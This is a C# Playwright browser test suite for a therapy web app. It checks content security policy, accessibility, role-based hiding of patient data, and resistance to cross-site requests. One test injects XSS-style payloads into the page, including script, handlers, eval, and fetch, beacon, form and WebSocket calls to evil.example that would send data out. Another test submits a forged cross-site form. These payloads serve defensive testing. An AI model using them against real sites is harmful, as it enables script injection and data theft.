using System.Collections.Concurrent;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using TherapyCompanion.Tests.Support;
using static Microsoft.Playwright.Assertions;

namespace TherapyCompanion.Tests.Web;

/// <summary>What a browser makes of it: our pages run under their policy without a single violation, can be used by everybody, and what is not ours doesn't run.</summary>
[Trait("Needs", "Browser")]
public sealed partial class InChromiumTests(Cast cast, Browser browser) : IClassFixture<Cast>, IClassFixture<Browser>
{
    private string Own => cast.Server.Address.GetLeftPart(UriPartial.Authority);

    [Theory]
    [InlineData("signed out")]
    [InlineData("patient")]
    [InlineData("therapist")]
    [InlineData("admin")]
    [InlineData("supervisor")]
    [InlineData("guardian")]
    [InlineData("locked")]
    [InlineData("another practice's therapist")]
    public async Task Every_page_runs_under_its_policy_and_asks_nothing_of_anybody_else(string who)
    {
        var wrong = new ConcurrentBag<string>();
        var seen = new HashSet<string>();
        var page = await OpenAsync(who);
        page.Console += (_, m) =>
        {
            if (m.Type is "error" && !IsPlainStatus().IsMatch(m.Text)) wrong.Add($"{page.Url}: {m.Text}");
        };
        page.PageError += (_, e) => wrong.Add($"{page.Url}: {e}");
        page.Request += (_, r) =>
        {
            if (!r.Url.StartsWith(Own, StringComparison.Ordinal) && !r.Url.StartsWith("data:", StringComparison.Ordinal)) wrong.Add($"{page.Url} asked {r.Url}");
        };
        await page.AddInitScriptAsync("document.addEventListener('securitypolicyviolation', e => console.error(`violated: ${e.violatedDirective} by ${e.blockedURI} ${e.sample}`))");
        foreach (var route in (await ServedRoute.AllAsync()).Where(r => r.Methods.Contains("GET") && r.Methods.Contains("POST")).Select(r => r.Route))
        {
            var address = Parameter().Replace(route, cast.Records[route.StartsWith("/sessions", StringComparison.Ordinal) ? 1 : route.StartsWith("/approvals", StringComparison.Ordinal) ? 2 : 0].ToString());
            await page.GotoAsync(address);
            // A circuit has arrived when it has put a heading on the page.
            await Expect(page.Locator("h1").First).ToBeAttachedAsync();
            var found = await page.EvaluateAsync<string[]>(
                """
                own => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on') || a.name === 'srcdoc'
                  || ['src', 'action', 'formaction', 'data'].includes(a.name) && !/^data:/.test(a.value) && new URL(a.value, document.baseURI).origin !== own
                  || a.name === 'href' && e.localName !== 'a' && !/^data:/.test(a.value) && new URL(a.value, document.baseURI).origin !== own
                  || a.name === 'href' && /^\s*(javascript|vbscript|data):/i.test(a.value) && e.localName === 'a').map(a => `<${e.localName} ${a.name}="${a.value}">`))
                """, Own);
            foreach (var part in found) wrong.Add($"{address}: {part}");
            // Once where many addresses lead to the same page.
            if (seen.Add(new Uri(page.Url).AbsolutePath + await page.TitleAsync())) await Browser.ShouldBeAccessibleAsync(page);
            if (who.StartsWith("another", StringComparison.Ordinal) || who is "admin" or "supervisor" or "guardian" or "locked")
                (await page.Locator("body").InnerTextAsync()).Should().NotContain(Cast.PatientName, $"{who} at {address}").And.NotContain("שינה מקוטעת");
        }

        wrong.Should().BeEmpty();
    }

    [Theory]
    [InlineData("patient", "/messages")]
    [InlineData("therapist", "/today")]
    public async Task What_was_put_into_a_page_does_not_run(string who, string address)
    {
        var page = await OpenAsync(who);
        var (asked, blocked) = (new ConcurrentBag<string>(), new ConcurrentBag<string>());
        page.Request += (_, r) => asked.Add(r.Url);
        page.RequestFailed += (_, r) =>
        {
            if (r.Failure is "csp" or "net::ERR_BLOCKED_BY_CSP") blocked.Add(r.Url);
        };
        await page.GotoAsync(address);
        await Expect(page.Locator("h1").First).ToBeAttachedAsync();
        var ran = await page.EvaluateAsync<string[]>(
            """
            async () => {
              const ran = [];
              window.hit = what => ran.push(what);
              const put = (name, set) => { const e = document.createElement(name); set(e); document.body.append(e); return e; };
              put('script', e => { try { e.textContent = "hit('a script in the page')" } catch { } });
              put('img', e => { try { e.setAttribute('onerror', "hit('a handler')") } catch { } e.src = '/none.png' });
              put('a', e => { e.href = "javascript:hit('a link')" }).click();
              try { put('script', e => { e.src = 'https://evil.example/x.js' }) } catch { }
              put('img', e => { e.src = 'https://evil.example/x.png?words' });
              put('iframe', e => { e.src = 'https://evil.example/' });
              try { put('iframe', e => { e.srcdoc = '<script>parent.hit("a frame")<\/script>' }) } catch { }
              put('base', e => { e.href = 'https://evil.example/' });
              const style = put('style', e => { e.textContent = 'h1 { outline: 7px solid red }' });
              if (getComputedStyle(document.querySelector('h1')).outlineWidth === '7px') hit('a sheet');
              await new Promise(done => setTimeout(done, 50)); // what the test itself says may be evaluated, what comes after may not
              try { (0, eval)("hit('eval')") } catch { }
              try { new Function("hit('a function')")() } catch { }
              try { setTimeout("hit('a timer')", 0) } catch { }
              try { await fetch('https://evil.example/?words'); hit('a request') } catch { }
              try { navigator.sendBeacon('https://evil.example/', 'words') } catch { }
              const form = put('form', e => { e.action = 'https://evil.example/'; e.method = 'post' });
              form.submit();
              try { new WebSocket('wss://evil.example/') } catch { }
              await new Promise(done => setTimeout(done, 700));
              return ran;
            }
            """);
        ran.Should().BeEmpty();
        asked.Where(u => u.Contains("evil.example", StringComparison.Ordinal)).Should().BeSubsetOf(blocked, "nothing left the browser");
        page.Url.Should().StartWith(Own);
    }

    [Fact]
    public async Task On_a_page_without_a_circuit_no_text_becomes_markup()
    {
        var page = await OpenAsync("patient");
        foreach (var address in new[] { "/messages", "/help", "/my-consents", "/no-such-page" })
        {
            await page.GotoAsync(address);
            (await page.EvaluateAsync<string>("() => { try { document.body.innerHTML = '<b>x</b>'; return 'written' } catch (e) { return e.name } }")).Should().Be("TypeError", address);
        }

        // And the one worker that is ours is still there: help comes without a connection.
        (await page.EvaluateAsync<string>("async () => new URL((await navigator.serviceWorker.ready).active.scriptURL).pathname")).Should().Be("/help-worker.js");
    }

    /// <summary>Another program at the same machine: for a browser the same site, so that cookies go along, and another origin.</summary>
    [Fact]
    public async Task A_neighbour_on_the_same_site_gets_nothing_though_the_cookies_go_along()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        await using var neighbour = builder.Build();
        neighbour.MapGet("/", () => Results.Content("<!DOCTYPE html><title>x</title><body></body>", "text/html"));
        await neighbour.StartAsync(TestContext.Current.CancellationToken);
        var there = $"http://localhost:{new Uri(neighbour.Urls.Single()).Port}/";

        var page = await OpenAsync("patient");
        var answers = new ConcurrentDictionary<string, int>();
        page.Response += (_, r) => answers[r.Request.Method + " " + new Uri(r.Url).PathAndQuery] = r.Status;
        await page.GotoAsync(there);
        var seen = await page.EvaluateAsync<string[]>(
            """
            async own => {
              const seen = [];
              const put = (name, set) => new Promise(done => {
                const e = document.createElement(name);
                e.onload = () => done(seen.push(name + ' loaded')); e.onerror = () => done();
                set(e); document.body.append(e); setTimeout(done, 2000);
              });
              await put('script', e => { e.src = own + '/messages/latest' });
              await put('img', e => { e.src = own + '/place.png' });
              await put('link', e => { e.rel = 'stylesheet'; e.href = own + '/patient.css' });
              const frame = document.createElement('iframe');
              frame.src = own + '/messages?framed';
              document.body.append(frame);
              await new Promise(done => { frame.onload = done; setTimeout(done, 2000) });
              try { if (frame.contentDocument || frame.contentWindow.length) seen.push('a frame') } catch { }
              try { await fetch(own + '/messages?fetched', { credentials: 'include' }); seen.push('a fetch') } catch { }
              try { await fetch(own + '/messages?unread', { credentials: 'include', mode: 'no-cors' }) } catch { }
              await new Promise(done => {
                const socket = new WebSocket(own.replace('http', 'ws') + '/_blazor?id=x');
                socket.onopen = () => done(seen.push('a socket')); socket.onerror = done;
              });
              const other = window.open(own + '/messages?opened');
              await new Promise(done => setTimeout(done, 1500));
              try { if (other && !other.closed && other.location.href) seen.push('a window') } catch { }
              return seen;
            }
            """, Own);
        seen.Should().BeEmpty();
        // Of files and calls the browser does not even tell the page's own tools what came.
        answers.Where(a => a.Key.Contains("framed", StringComparison.Ordinal)).Select(a => a.Value).Should().Equal(403);

        // The form as an attacker would write it, and the person's own click.
        var forged = await page.RunAndWaitForResponseAsync(() => page.EvaluateAsync(
            """
            own => {
              const form = document.createElement('form');
              form.method = 'post'; form.action = own + '/messages?forged';
              for (const [name, value] of [['_handler', 'write'], ['Input.Words', 'מהשכנים'], ['Input.Key', crypto.randomUUID()]]) {
                const field = document.createElement('input'); field.name = name; field.value = value; form.append(field);
              }
              document.body.append(form); form.submit();
            }
            """, Own), r => r.Url.EndsWith("forged", StringComparison.Ordinal));
        (forged.Request.Method, forged.Status).Should().Be(("POST", 403));
        (await forged.Request.AllHeadersAsync()).Keys.Should().Contain("cookie", "without this the test would prove nothing");

        // Leading here by a link is not forbidden. In another tab: where the answer has no words, this one shows the browser's own page.
        page = await OpenAsync("patient");
        await page.GotoAsync(there);
        await page.EvaluateAsync("own => { const a = document.createElement('a'); a.href = own + '/messages?led'; document.body.append(a); a.click() }", Own);
        await page.WaitForURLAsync(new Regex("led"));
        await Expect(page.Locator(".place-name")).ToBeVisibleAsync();
        (await page.Locator("body").InnerTextAsync()).Should().NotContain("מהשכנים");
    }

    [Fact]
    public async Task Signing_in_and_out_by_the_pages_works_in_a_browser_that_says_where_its_posts_come_from()
    {
        using var person = cast["patient"].ElsewhereAsSame();
        var page = await browser.OpenAsync(cast.Server.Address);
        var posts = new ConcurrentBag<IRequest>();
        page.Request += (_, r) =>
        {
            if (r.Method == "POST") posts.Add(r);
        };
        await page.GotoAsync("/sign-in");
        await page.Locator("input[type=email]").FillAsync(person.Email);
        await page.Locator("input[type=password]").FillAsync(DoorClient.Password);
        await page.Locator("form:has(input[type=password]) button[type=submit]").ClickAsync();
        await Expect(page).ToHaveURLAsync(new Regex("/messages$"));
        foreach (var post in posts)
        {
            // "no-referrer" would have made this "null", and the second line a wall before our own pages.
            var headers = await post.AllHeadersAsync();
            headers["origin"].Should().Be(Own);
            headers["sec-fetch-site"].Should().Be("same-origin");
        }

        posts.Should().NotBeEmpty();
    }

    private async Task<IPage> OpenAsync(string who)
    {
        var page = await browser.OpenAsync(cast.Server.Address);
        // By the browser's own protocol: Playwright's way names a domain, which a "__Host-" cookie must not have.
        var session = await page.Context.NewCDPSessionAsync(page);
        foreach (var (name, value) in cast[who].Cookies)
            await session.SendAsync("Network.setCookie", new() { ["name"] = name, ["value"] = value, ["url"] = $"https://localhost:{cast.Server.Port}/", ["path"] = "/", ["secure"] = true, ["httpOnly"] = true, ["sameSite"] = "Lax" });
        return page;
    }

    // A page that is not there for this person is no fault of the page.
    [GeneratedRegex("^Failed to load resource: the server responded with a status of 4")]
    private static partial Regex IsPlainStatus();

    [GeneratedRegex(@"\{[^}]+\}")]
    private static partial Regex Parameter();
}
